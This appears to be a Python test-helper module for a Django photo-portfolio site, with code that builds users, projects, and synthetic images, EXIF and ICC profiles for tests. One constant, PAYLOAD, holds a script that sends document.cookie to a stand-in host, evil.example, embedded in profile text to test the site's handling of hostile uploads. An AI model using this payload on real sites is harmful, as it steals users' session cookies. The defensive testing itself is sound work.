"""Small helpers that make users, projects and real images for the tests."""

import io
import itertools
import os
import struct
import subprocess
import sys
import uuid
from collections.abc import Iterator
from contextlib import contextmanager

from django.contrib.auth import get_user_model
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from PIL import Image

from portfolio.access import (
    PUBLIC,
    PictureMedia,
    private_storage,
    public_storage,
    rendition_storage,
)
from portfolio.images.renditions import rendition_spec
from portfolio.models import Category, Picture, Project
from portfolio.tasks import make_renditions
from site_config.environment import BASE_DIR

# What make_user gives everyone.
PASSWORD = "a-good-test-password"
# The header htmx sends with every request it makes.
HTMX = {"HX-Request": "true"}

_numbers = itertools.count(1)


def make_user(username: str | None = None, *, is_staff: bool = False, **fields):
    username = username or f"user{next(_numbers)}"
    return get_user_model().objects.create_user(
        username=username, password=PASSWORD, is_staff=is_staff, **fields
    )


def make_staff(username: str | None = None):
    """A superuser: staff who may do everything in the admin."""
    return make_user(username, is_staff=True, is_superuser=True)


def signed_in(user) -> Client:
    """A client signed in as user."""
    client = Client()
    client.force_login(user)
    return client


def make_category(name: str = "Landscape", slug: str | None = None) -> Category:
    return Category.objects.create(name=name, slug=slug or name.lower())


def make_project(owner=None, *, title: str | None = None, **fields) -> Project:
    fields.setdefault("visibility", "public")
    return Project.objects.create(
        owner=owner or make_user(), title=title or f"Project {next(_numbers)}", **fields
    )


def make_picture(
    project: Project | None = None,
    *,
    name: str = "photo.jpg",
    size: tuple[int, int] = (64, 48),
    renditions: bool = True,
    **fields,
) -> Picture:
    """
    Save a real image through the model, and so through the gate, as an upload would; then
    make its renditions, as the task queued on commit does (tests roll back, never commit).
    """
    picture = Picture(project=project or make_project(), **fields)
    upload = uploaded_image(name, size=size)
    picture.photo.save(upload.name, upload, save=True)
    if renditions:
        make_renditions.call(picture.pk)
        picture.refresh_from_db()
    return picture


def make_stored_pictures(project: Project, count: int) -> list[Picture]:
    """
    `count` pictures as rows, each with two small renditions and a web size stored where its
    project's visibility puts them, and no original: what big-project tests need, made
    without decoding a thousand images.
    """
    public = project.is_public
    storage = rendition_storage(public)
    pictures = []
    for number in range(count):
        stem = f"projects/{project.pk}/{uuid.uuid4().hex}"
        renditions = [
            {"width": width, "height": width * 2 // 3, "name": f"{stem}_w{width}.webp"}
            for width in (480, 960)
        ]
        web_size = f"{stem}_web.jpg"
        for name in [rendition["name"] for rendition in renditions] + [web_size]:
            assert storage.save(name, ContentFile(name.encode())) == name
        pictures.append(
            Picture(
                project=project,
                photo=f"{stem}.jpg",
                width=960,
                height=640,
                original_filename=f"Shoot {number}.jpg",
                position=number,
                renditions=renditions,
                renditions_spec=rendition_spec(),
                renditions_public=public,
                web_size=web_size,
            )
        )
    return Picture.objects.bulk_create(pictures)


def make_pictures(project: Project, count: int) -> list[Picture]:
    """
    `count` pictures in display order, captioned "Picture 1", "Picture 2"…: one made as
    make_picture makes it, the others rows sharing its files, as fast as a project of
    thousands can be made.
    """
    first = make_picture(project, caption="Picture 1")
    files = {
        field: getattr(first, field)
        for field in ("photo", "width", "height", "renditions", "renditions_spec")
    }
    files.update(renditions_public=first.renditions_public, placeholder=first.placeholder)
    copies = [
        Picture(
            project=project,
            caption=f"Picture {number}",
            position=first.position + number - 1,
            **files,
        )
        for number in range(2, count + 1)
    ]
    return [first, *Picture.objects.bulk_create(copies)]


def image_bytes(
    image_format: str = "JPEG",
    size: tuple[int, int] = (64, 48),
    color=(180, 90, 40),
    **save_options,
) -> bytes:
    """Draw an image in memory and encode it."""
    mode = "RGBA" if image_format in ("PNG", "WEBP") else "RGB"
    image = Image.new(mode, size, color)
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **save_options)
    return buffer.getvalue()


def exif_with_location(orientation: int = 1) -> bytes:
    """EXIF as a phone writes it: where (GPS), with what (maker, serial number), turned how."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneMaker"
    exif[0xA431] = "SERIAL-12345"  # BodySerialNumber
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2], gps[3], gps[4] = "N", (52.0, 31.0, 12.5), "W", (1.0, 2.0, 3.0)
    return exif.tobytes()


def damaged_exif(*extra_entries: tuple[int, int, int, bytes]) -> bytes:
    """
    EXIF that turns the picture (orientation 6) and holds a signed value Pillow fails to write
    back (struct.error from exif_transpose): one big-endian IFD of (tag, type, count, value).
    """
    entries = [(0x0112, 3, 1, b"\x00\x06\x00\x00"), (0x0100, 8, 2, b"\xff\xff\x00\x01")]
    ifd = struct.pack(">H", len(entries) + len(extra_entries))
    for tag, kind, count, value in [*entries, *extra_entries]:
        ifd += struct.pack(">HHI", tag, kind, count) + value
    return b"MM\x00*\x00\x00\x00\x08" + ifd + b"\x00\x00\x00\x00"


def multi_picture_jpeg(size: tuple[int, int] = (64, 48)) -> bytes:
    """An MPO, as stereo cameras and some phones write: a red picture, then a blue one."""
    first, second = Image.new("RGB", size, (220, 30, 30)), Image.new("RGB", size, (30, 30, 220))
    buffer = io.BytesIO()
    first.save(buffer, format="MPO", save_all=True, append_images=[second])
    return buffer.getvalue()


def s15(value: float) -> int:
    return round(value * 65536)


def xyz(x: float, y: float, z: float) -> bytes:
    return b"XYZ \0\0\0\0" + struct.pack(">3i", s15(x), s15(y), s15(z))


def text_tag(text: str, version: int) -> bytes:
    if version >= 4:
        utf16 = text.encode("utf-16-be")
        header = struct.pack(">II2s2sII", 1, 12, b"en", b"US", len(utf16), 28)
        return b"mluc\0\0\0\0" + header + utf16
    ascii_text = text.encode("ascii") + b"\0"
    return b"desc\0\0\0\0" + struct.pack(">I", len(ascii_text)) + ascii_text + b"\0" * 78


def icc_profile(tags: dict[bytes, bytes], version: int = 4) -> bytes:
    """An RGB display profile with these tags, laid out as the ICC specification says."""
    directory_end = 128 + 4 + 12 * len(tags)
    entries, body = b"", b""
    for signature, data in tags.items():
        entries += struct.pack(">4sII", signature, directory_end + len(body), len(data))
        body += data + b"\0" * (-len(data) % 4)
    d50 = struct.pack(">3i", s15(0.9642), s15(1.0), s15(0.8249))
    header = struct.pack(
        ">I4x4s4s4s4s12x4s24xI12s48x",
        directory_end + len(body),
        bytes([version, 0x20 if version < 4 else 0x40, 0, 0]),
        b"mntr",
        b"RGB ",
        b"XYZ ",
        b"acsp",
        0,
        d50,
    )
    return header + struct.pack(">I", len(tags)) + entries + body


# What a hostile profile carries in its text.
PAYLOAD = "<html><script>fetch('//evil.example/?c='+document.cookie)</script></html>"
GAMMA = b"para\0\0\0\0" + struct.pack(">H2xi", 0, s15(2.2))
# Display P3's primaries, adapted to D50 as profiles store them.
P3_RED = (0.5151, 0.2412, -0.0011)
P3_GREEN = (0.2920, 0.6922, 0.0419)
P3_BLUE = (0.1571, 0.0666, 0.7841)


def display_p3_like(version: int = 4, extra: dict[bytes, bytes] | None = None) -> bytes:
    """Display P3's primaries, and text where a hostile profile would put it."""
    return icc_profile(
        {
            b"desc": text_tag(f"Display P3 {PAYLOAD}", version),
            b"cprt": text_tag(PAYLOAD, version),
            b"wtpt": xyz(0.9642, 1.0, 0.8249),
            b"rXYZ": xyz(*P3_RED),
            b"gXYZ": xyz(*P3_GREEN),
            b"bXYZ": xyz(*P3_BLUE),
            b"rTRC": GAMMA,
            b"gTRC": GAMMA,
            b"bTRC": GAMMA,
            b"zzzz": PAYLOAD.encode() * 4,
            **(extra or {}),
        },
        version,
    )


def uploaded_image(
    name: str = "photo.jpg",
    image_format: str = "JPEG",
    size: tuple[int, int] = (64, 48),
    **options,
) -> SimpleUploadedFile:
    content_types = {
        "JPEG": "image/jpeg",
        "PNG": "image/png",
        "WEBP": "image/webp",
        "GIF": "image/gif",
    }
    return SimpleUploadedFile(
        name,
        image_bytes(image_format, size, **options),
        content_type=content_types.get(image_format, "application/octet-stream"),
    )


def picture_url(name: str, picture: Picture) -> str:
    """The address of one of a picture's pages or actions, by URL name (picture-update, …)."""
    return reverse(f"portfolio:{name}", kwargs={"slug": picture.project.slug, "pk": picture.pk})


def admin_urls(picture: Picture) -> list[str]:
    """The admin's pages, each of its lists with a filter or a search, for this picture."""
    project = picture.project
    return [
        "/admin/",
        "/admin/portfolio/project/",
        "/admin/portfolio/project/?visibility__exact=public",
        f"/admin/portfolio/project/?q={project.title}",
        "/admin/portfolio/project/add/",
        f"/admin/portfolio/project/{project.pk}/change/",
        "/admin/portfolio/picture/",
        "/admin/portfolio/picture/?q=Dune",
        f"/admin/portfolio/picture/{picture.pk}/change/",
        "/admin/portfolio/category/",
    ]


def files_under(root) -> set[str]:
    """Every file below root, as paths relative to it."""
    return {str(path.relative_to(root)) for path in root.rglob("*") if path.is_file()}


def stored_files(folder: str = "", storage=None) -> set[str]:
    """
    Every file below folder, on disk or in a bucket alike: in `storage`, or in both the
    public and the private storage (portfolio/access.py), whose names never collide.
    """
    if storage is None:
        return stored_files(folder, public_storage()) | stored_files(folder, private_storage())
    try:
        folders, files = storage.listdir(folder)
    except FileNotFoundError:  # A folder on disk that nothing was written to yet.
        return set()
    prefix = f"{folder}/" if folder else ""
    found = {f"{prefix}{name}" for name in files}
    for subfolder in folders:
        found |= stored_files(f"{prefix}{subfolder}", storage)
    return found


def public_files() -> set[str]:
    """The files anyone may fetch by their URL."""
    return stored_files(storage=public_storage())


def private_files() -> set[str]:
    return stored_files(storage=private_storage())


def rendition_files() -> set[str]:
    """The renditions task's files in either storage: renditions (<stem>_w<width>) and
    link-preview cards (<stem>_card.jpg)."""
    return {name for name in stored_files() if "_w" in name or name.endswith("_card.jpg")}


def storage_holding(name: str):
    """The storage that holds `name`: originals and non-public renditions are private."""
    for storage in (private_storage(), public_storage()):
        if storage.exists(name):
            return storage
    raise FileNotFoundError(name)


def read_stored(name: str) -> bytes:
    """The bytes of a stored file, whichever storage holds it."""
    with storage_holding(name).open(name, "rb") as stored:
        return stored.read()


@contextmanager
def open_stored_image(name: str) -> Iterator[Image.Image]:
    """Open a stored file with Pillow, on disk or in a bucket alike."""
    with Image.open(io.BytesIO(read_stored(name))) as image:
        yield image


def replace_stored(name: str, data: bytes) -> None:
    """Put other bytes under a stored name, as a damaged or tampered file would have them."""
    storage = storage_holding(name)
    storage.delete(name)
    saved = storage.save(name, ContentFile(data))
    assert saved == name, f"{name} was stored again as {saved}"


def environment_without_ours(**variables: str) -> dict[str, str]:
    """This process's environment without the site's variables, plus these."""
    env = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("DJANGO_", "AWS_", "DATABASE_URL"))
    }
    return {**env, **variables}


def run_python(code: str, **variables: str) -> subprocess.CompletedProcess:
    """Run code in a fresh interpreter with none of the site's variables set but these."""
    return subprocess.run(
        [sys.executable, "-c", code],
        cwd=BASE_DIR,
        env=environment_without_ours(**variables),
        capture_output=True,
        text=True,
    )


def load_settings(
    show: str = "s.DEBUG, s.MEDIA_ROOT, s.MEDIA_URL, s.DATABASES['default']['ENGINE']",
    **variables: str,
) -> subprocess.CompletedProcess:
    """Import the settings in a fresh interpreter with exactly these variables set."""
    return run_python(f"from site_config import settings as s; print({show})", **variables)


def public_media(picture: Picture) -> PictureMedia:
    """A picture's URLs as anyone (not signed in, no link) is handed them."""
    return PictureMedia(picture, PUBLIC)
